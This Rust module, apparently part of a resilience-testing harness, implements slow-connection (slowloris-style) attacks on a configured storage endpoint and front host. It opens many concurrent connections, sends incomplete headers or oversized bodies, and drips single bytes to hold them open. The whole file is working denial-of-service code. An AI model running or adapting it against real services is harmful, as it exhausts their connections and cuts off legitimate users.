//! Connections that are never done: a byte now and then, no signature, and again when they are cut.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::time::{interval, sleep};

use super::Aim;
use super::wire::{head, in_words, status};

/// More than the storage port ever took at once.
const HEADS_AT_STORAGE: u64 = 1_100;
const BODIES_AT_STORAGE: u64 = 64;
const HEADS_AT_FRONT: u64 = 64;
const BODIES_AT_FRONT: u64 = 64;
/// Between two bytes: soon enough for a deadline that starts anew with each of them.
const BYTE_EVERY: Duration = Duration::from_secs(2);
/// Before the next try where the last was cut.
const PAUSE: Duration = Duration::from_secs(1);

pub fn begin(aim: &Aim) {
    let many = |count, attack, to, opening: &str| {
        for _ in 0..count {
            tokio::spawn(drip(aim.clone(), attack, to, opening.as_bytes().to_vec()));
        }
    };
    let unfinished = |first_line: &str, to| {
        let whole = head(first_line, to, &["X-Drip: "]);
        whole.trim_end().to_owned()
    };
    if let Some(to) = aim.storage {
        let put = "PUT /aftersight/incoming/nobody/nothing";
        many(HEADS_AT_STORAGE, "dripping heads at storage", to, &unfinished(put, to));
        let body = head(put, to, &["Content-Length: 26214400", "x-ms-blob-type: BlockBlob"]);
        many(BODIES_AT_STORAGE, "dripping bodies at storage", to, &body);
    }
    let to = aim.front;
    many(HEADS_AT_FRONT, "dripping heads at the host", to, &unfinished("GET /api/me", to));
    let json = ["Content-Type: application/json", "Transfer-Encoding: chunked"];
    let body = head("POST /api/links/open", to, &json);
    many(BODIES_AT_FRONT, "dripping chunks at the host", to, &body);
}

async fn drip(aim: Aim, attack: &'static str, to: SocketAddr, opening: Vec<u8>) {
    // Not all in the same moment.
    sleep(BYTE_EVERY.mul_f64(f64::from((aim.chance() % 100).to_le_bytes()[0]) / 100.0)).await;
    let drop: &[u8] = if opening.ends_with(b"\r\n") { b"1\r\n \r\n" } else { b"a" };
    while !aim.is_over() {
        let outcome = drip_once(&aim, to, &opening, drop).await;
        if !aim.is_over() {
            aim.tell(attack, &in_words(outcome));
        }
        sleep(PAUSE).await;
    }
    aim.tell(attack, "held to the end");
}

/// Until there is an answer, or no connection any more.
async fn drip_once(aim: &Aim, to: SocketAddr, opening: &[u8], drop: &[u8]) -> io::Result<String> {
    let mut stream = TcpStream::connect(to).await?;
    stream.write_all(opening).await?;
    let mut tick = interval(BYTE_EVERY);
    while !aim.is_over() {
        tokio::select! {
            answered = stream.readable() => {
                answered?;
                return status(&mut stream).await;
            }
            _ = tick.tick() => stream.write_all(drop).await?,
        }
    }
    Ok("held to the end".to_owned())
}
